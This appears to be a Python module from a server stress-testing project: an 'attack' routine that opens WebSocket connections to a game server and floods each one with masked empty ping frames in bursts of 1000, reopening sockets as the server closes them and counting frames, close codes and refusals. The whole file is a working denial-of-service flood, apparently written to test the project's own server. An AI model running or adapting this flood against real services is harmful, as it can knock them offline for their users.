"""A socket sends empty pings as fast as the server reads them; when it is closed, the next begins.

Counts `frames`, `closed CODE`, and `refused` where no new socket is had.
"""

import asyncio
from contextlib import suppress

from websockets.exceptions import ConnectionClosed

from hostile.attacker import Target

FRAME = b"\x89\x80\x00\x00\x00\x00"
"""A masked ping without content."""
BURST = 1000
BUFFER_BYTES = 2**18
"""As much is written ahead."""


async def attack(target: Target) -> None:
    await flood(target, FRAME)


async def flood(target: Target, frame: bytes, begin: bytes = b"") -> None:
    """Sends a frame again and again, over one socket after the other."""
    game, cookie = await target.game()
    async for socket in target.sockets(game, cookie):
        closing = asyncio.create_task(closed(target, socket))
        socket.transport.write(begin)
        with suppress(RuntimeError):  # closed by the server: the library writes no more
            while not closing.done():
                if socket.transport.get_write_buffer_size() < BUFFER_BYTES:
                    socket.transport.write(frame * BURST)
                    target.count("frames", BURST)
                await asyncio.sleep(0.0005)
        await closing


async def closed(target: Target, socket) -> None:
    """Reads until the socket is closed, and counts with which code."""
    try:
        while True:
            await socket.recv()
    except ConnectionClosed:
        target.count(f"closed {socket.close_code}")
